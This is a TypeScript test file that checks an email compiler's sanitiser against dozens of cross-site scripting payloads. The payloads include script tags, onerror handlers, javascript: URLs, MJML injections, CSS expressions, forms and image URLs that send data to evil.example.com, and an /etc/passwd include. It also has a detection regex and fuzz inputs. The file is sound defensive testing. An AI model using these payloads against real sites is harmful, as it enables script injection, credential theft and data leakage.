import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { compileForPreview } from '../../../lib/content/compile-email'
import { renderEmail } from '../../../lib/content/render-email'
import { aSource, factsOf, PLAIN_BRAND } from '../../support/messages'

const origin = 'https://app.example.com'
const HOSTILE_VALUE = '"><script>alert(1)</script>{{ customer.city }}'

async function sent(source: string) {
  const { compiled, checks } = await compileForPreview({ content: aSource(source), brand: PLAIN_BRAND, origin })
  const message = renderEmail(compiled, factsOf({ given_name: HOSTILE_VALUE, city: 'SECRET-CITY' }))
  return { html: message.kind === 'rendered' ? message.html : '', text: message.kind === 'rendered' ? message.text : '', checks }
}

/** What would run, send, load or lead astray wherever a reader made it out. */
const DANGER =
  /<(script|iframe|object|embed|form|input|button|textarea|select|svg|math|base|link|meta[^>]*refresh)\b|\son\w+\s*=|(href|src|action|background|formaction)="\s*(javascript|vbscript|data):|expression\s*\(|@import|-moz-binding|behavior\s*:/i

const SOURCES = [
  '<script>alert(1)</script>',
  '<SCRIPT src="https://evil.example.com/x.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<!-- x -->script>alert(1)</script>',
  '<img src="https://cdn.example.com/a.png" alt="" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<body onload=alert(1)>hi</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="{{ customer.city }}">x</a>',
  '<a href="https://{{ customer.city }}.example.com/">x</a>',
  '<img src="https://evil.example.com/{{ customer.city }}.png" alt="">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">',
  '<iframe src="https://evil.example.com/"></iframe>',
  '<form action="https://evil.example.com/"><input name="password"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com/">',
  '<base href="https://evil.example.com/">',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">',
  '<style>@import url(https://evil.example.com/x.css);a{background:url(javascript:alert(1))}</style>',
  '<style>a{width:expression(alert(1));-moz-binding:url(x);behavior:url(x)}</style>',
  '<style>a{}</style><script>alert(1)</script><style>',
  '<style/><script>alert(1)</script>',
  '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
  '<div style="color:red}body{background:url(https://evil.example.com/)}">x</div>',
  '<div style="background:url(https://evil.example.com/{{ customer.city }})">x</div>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<!--[if mso]><script>alert(1)</script><a href="javascript:alert(1)">x</a><![endif]-->',
  '<!--[if mso]> --!><script>alert(1)</script> <![endif]-->',
  '<!--[if true]><![endif]--><!-- --><script>alert(1)</script>',
  '<!-->-<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><p>x</p>',
  '<p {{ customer.given_name }}>x</p>',
  '<p {% if customer.city %}onclick="alert(1)"{% endif %}>x</p>',
  '<{{ customer.given_name }}>x',
  '<p title="{{ customer.given_name }}">x</p>',
  '<p title={{ customer.given_name }}>x</p>',
  '<style>{{ customer.given_name }}</style>',
  '<title>{{ customer.given_name }}</title>',
  '<template><script>alert(1)</script></template>',
  '<object data="https://evil.example.com/x.swf"><embed src="x"></object>',
  '<mj-text>x</mj-text>',
  '<mjml><mj-body><mj-raw><script>alert(1)</script></mj-raw></mj-body></mjml>',
  '<mjml><mj-body><mj-section><mj-column><mj-text><img src=x onerror=alert(1)><script>alert(1)</script></mj-text></mj-column></mj-section></mj-body></mjml>',
  '<mjml><mj-body><mj-section><mj-column><mj-button href="javascript:alert(1)">x</mj-button></mj-column></mj-section></mj-body></mjml>',
  '<mjml><mj-body><mj-section background-color="red&quot; onclick=&quot;alert(1)"><mj-column><mj-text>x</mj-text></mj-column></mj-section></mj-body></mjml>',
  '<mjml><mj-body><mj-section background-url="javascript:alert(1)"><mj-column><mj-text color="red;background:url(https://evil.example.com)">x</mj-text></mj-column></mj-section></mj-body></mjml>',
  '<mjml><mj-head><mj-style></style><script>alert(1)</script>a{}</mj-style></mj-head><mj-body><mj-raw>x</mj-raw></mj-body></mjml>',
  '<mjml><mj-head><mj-html-attributes><mj-selector path="a"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes></mj-head><mj-body><mj-raw>x</mj-raw></mj-body></mjml>',
  '<mjml><mj-head><mj-attributes><mj-all onclick="alert(1)" href="javascript:alert(1)" /></mj-attributes></mj-head><mj-body><mj-raw>x</mj-raw></mj-body></mjml>',
  '<mjml><mj-body><mj-include path="/etc/passwd" type="html" /><mj-raw position="file-start"><p>x</p></mj-raw></mj-body></mjml>',
  '<mjml><mj-head><mj-title><script>alert(1)</script></mj-title><mj-preview><img src=x onerror=alert(1)></mj-preview></mj-head><mj-body></mj-body></mjml>',
]

describe('a source that wants more than to be read', () => {
  it.each(SOURCES)('is made harmless: %s', async (source) => {
    const { html, text } = await sent(source)
    expect(html).not.toMatch(DANGER)
    expect(html).not.toMatch(/evil\.example\.com\/?[^<]*"/)
    expect(html).not.toContain('root:')
    expect(html.replaceAll('&#39;', "'")).not.toContain('"><script')
    expect(html + text).not.toContain('evil.example.com/SECRET')
  })

  it.each([
    'a &#123;&#123; customer.city }} b',
    'a {<!-- x -->{ customer.city }} b',
    '<p title="&#123;{ customer.city }}">x</p>',
    '<style>a{/* x */{color:red}}</style>&#123;% if customer.city %}yes{% endif %}',
    '{&#123; customer.city }}',
  ])('asks for nothing but by a tag that was read: %s', async (source) => {
    const { html, text } = await sent(`${source} <a href="https://shop.example.com/">the shop</a>`)
    expect(html + text).not.toContain('SECRET-CITY')
  })

  it('says what it left out, and on which line', async () => {
    const { checks } = await sent('<p>one</p>\n<script>\nalert(1)\n</script>\n<p onclick="x()">two</p>\n<form></form>')
    expect(checks.filter(({ line }) => line !== undefined).map(({ level, line }) => [level, line])).toEqual([
      ['warning', 2],
      ['warning', 5],
      ['error', 6],
    ])
  })

  it('stays harmless whatever pieces it is put together of', async () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '</',
        '/>',
        '"',
        "'",
        '=',
        ' ',
        '\n',
        '<!--',
        '-->',
        '<![endif]-->',
        '<!--[if mso]>',
        '--!>',
        '<![CDATA[',
        ']]>',
        '&lt;',
        '&#60;',
      ],
      ...['script', 'style', 'svg', 'title', 'textarea', 'noscript', 'a', 'p', 'mj-text', 'mj-raw', 'mj-style', 'table', 'onerror', 'href', 'src'],
      ...['javascript:alert(1)', 'alert(1)', '{{ customer.given_name }}', '{% if customer.city %}', '{% endif %}', '{', '{{', '{%', '}}', 'style="'],
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 40 }), async (pieces) => {
        const { html } = await sent(pieces.join(''))
        const outside = html.replaceAll(/="[^"]*"/g, '=""')
        expect(outside).not.toMatch(/<(script|iframe|svg|form|textarea|base|link)\b|<[^>]*\son\w+\s*=/i)
        expect(html).not.toMatch(/(href|src)="\s*javascript:/i)
      }),
      { numRuns: 300, seed: 7 },
    )
  })

  it('costs time and space in proportion to its length', async () => {
    for (const source of [
      '<p>'.repeat(60_000),
      '<'.repeat(190_000),
      '<!--[if mso]>'.repeat(14_000),
      '{{'.repeat(90_000),
      '<a href="'.repeat(20_000),
    ]) {
      const { checks } = await sent(source)
      expect(checks.length).toBeLessThan(150)
    }
  })
})
